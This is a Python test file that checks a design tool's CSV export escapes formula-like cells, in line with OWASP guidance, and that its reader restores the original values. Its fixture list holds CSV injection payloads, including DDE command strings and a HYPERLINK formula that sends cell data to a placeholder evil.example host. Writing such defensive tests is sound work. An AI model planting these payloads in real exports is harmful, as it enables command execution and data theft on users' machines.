"""CSV exports are safe to open in a spreadsheet: formula-like cells are neutralised
(OWASP), numbers stay numbers, and our reader reads our files back unchanged."""

from __future__ import annotations

import csv
import io

from designer.cli import main
from designer.csv_cells import safe_cell, write_rows
from designer.fileformat import save
from designer.runtime.csv_rows import csv_rows

from .queue_fixtures import programme

ATTACKS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
           "+1+cmd|' /C calc'!A0", "-2+3", "\t=1+1", "\r=1+1"]


def test_plan_csv_neutralises_formulas_typed_by_a_user(tmp_path, capsys):
    bp = programme()
    for wf, text in zip(bp.workflows, ATTACKS):
        wf.name = text
        wf.queue.owner = text[:100]
        wf.queue.notes = text
    path = tmp_path / "p.json"
    save(bp, path)
    assert main(["plan", str(path), "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    cells = [v for r in rows for v in r.values() if v]
    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    names = {r["name"] for r in rows}
    assert {"'" + a for a in ATTACKS[:len(bp.workflows)]} <= names


def test_numbers_stay_numbers_and_our_reader_restores_text(tmp_path):
    assert safe_cell(-3) == -3 and safe_cell(-0.5) == -0.5 and safe_cell("plain") == "plain"
    path = tmp_path / "c.csv"
    with open(path, "w", encoding="utf-8", newline="") as fh:
        write_rows(fh, ["id", "phone", "note"], [["c1", "+44 7700 900123", "=1+1"], ["c2", -4, "'quoted"]])
    text = path.read_text()
    assert "'+44 7700 900123" in text and "'=1+1" in text and ",-4," in text
    rows = [row for _, row in csv_rows(path)]
    assert rows == [{"id": "c1", "phone": "+44 7700 900123", "note": "=1+1"},
                    {"id": "c2", "phone": "-4", "note": "'quoted"}]
